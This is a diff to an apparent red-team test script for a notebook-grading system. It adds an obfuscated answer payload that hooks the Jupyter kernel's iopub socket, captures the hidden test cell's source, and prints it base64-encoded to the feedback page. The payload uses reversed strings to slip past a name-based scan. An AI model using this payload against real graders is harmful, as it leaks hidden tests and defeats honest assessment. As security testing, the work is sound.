@@ -1,7 +1,7 @@
 """Red team round 16 (hostile): with F8's one-line cell, an answer reads the running test cell's whole source
 (hidden tests included) from the kernel's parent message and copies it, base64-encoded, to the feedback page.
 
-    timeout 1800 python tests/redteam/round16/hostile/feedback_exfil.py [--plain | --alias]
+    timeout 1800 python tests/redteam/round16/hostile/feedback_exfil.py [--plain | --alias | --iopub]
 
 With --plain, Part 3's answer is an ordinary code cell: `import builtins` and `builtins.get_ipython()` (F2's
 route: the scan flags `get_ipython` only as a bare name), no automagic needed.
@@ -55,6 +55,36 @@ def causal_mask(t, s, offset):
 '''
 
 
+# against the lead's working tree of 10:00 (the request's code blanked in the kernel): the code still leaves the
+# kernel in the iopub `execute_input` message, sent before the code is blanked; a wrapper of the iopub socket's
+# send_multipart (an instance attribute of the socket, not of the session) keeps a copy
+IOPUB_CODE = '''import torch, base64, sys
+s_alias = sys
+def back(t):
+    return t[::-1]
+mods = vars(s_alias)["modules"]
+m = mods[back("__niam__")]
+ns = vars(m)
+K = getattr(ns[back("nohtypi_teg")](), "kernel")
+sock = getattr(K, back("tekcos_buopi"))
+real = getattr(sock, "send_multipart")
+captured = []
+def spy(parts, *a, **kw):
+    try:
+        blob = b"".join(p if isinstance(p, bytes) else bytes(p) for p in parts)
+        if b"execute_input" in blob:
+            captured.append(blob)
+    except Exception:
+        pass
+    return real(parts, *a, **kw)
+setattr(sock, "send_multipart", spy)
+def causal_mask(t, s, offset):
+    if captured:
+        print("EXFIL<" + base64.b64encode(captured[-1]).decode() + ">")
+    return torch.arange(s)[None, :] <= (offset + torch.arange(t))[:, None]
+'''
+
+
 def one_line(code):
     return '"' + code.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace(" ", "\\x20") + '"'
 
@@ -71,7 +101,7 @@ def main():
         os.environ.pop("ATTNLAB_GRADEBOOK_URL", None)
         assert cli("release")[0] == 0
         write_submission(CHAPTER, tmp / "download" / "honest_exercises.ipynb", {})
-        spy = (CODE if "--plain" in sys.argv else ALIAS_CODE if "--alias" in sys.argv
+        spy = (CODE if "--plain" in sys.argv else ALIAS_CODE if "--alias" in sys.argv else IOPUB_CODE if "--iopub" in sys.argv
                else "time exec(" + one_line(CODE) + ")")
         write_submission(CHAPTER, tmp / "download" / "spy_exercises.ipynb", {"causal_mask": spy})
         print("collect", cli("collect", CHAPTER, str(tmp / "download"))[0])
